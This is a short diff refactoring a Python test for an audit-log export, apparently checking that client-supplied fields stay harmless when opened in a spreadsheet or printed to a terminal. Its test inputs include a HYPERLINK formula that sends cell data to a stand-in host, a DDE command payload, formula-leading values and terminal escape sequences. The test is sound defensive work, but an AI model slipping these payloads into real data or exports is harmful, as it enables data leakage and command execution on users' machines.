@@ -211,10 +211,11 @@ def test_what_clients_chose_is_text_in_a_spreadsheet_and_inert_in_a_terminal(
     formula = '=HYPERLINK("https://evil.example/?"&A2,"open")'
     escape = "\x1b]0;owned\x07\x1b[2J"
     with kaudit.open(config) as session:
-        session.emit("topic.deleted", actor={"type": "user", "id": "User:mallory", "client_id": formula},
-                     resource="topic:payments", error="+cmd|' /C calc'!A0")  # fmt: skip
-        session.emit("topic.deleted", actor={"type": "user", "id": f"User:{escape}", "client_id": "-2+3"},
-                     resource="@SUM(1+1):orders")  # fmt: skip
+        mallory = {"type": "user", "id": "User:mallory", "client_id": formula}
+        session.emit("topic.deleted", actor=mallory, resource="topic:payments",
+                     error="+cmd|' /C calc'!A0")  # fmt: skip
+        hidden = {"type": "user", "id": f"User:{escape}", "client_id": "-2+3"}
+        session.emit("topic.deleted", actor=hidden, resource="@SUM(1+1):orders")
     source = str(config.log_dir)
 
     exported = search(source, "-o", "csv")
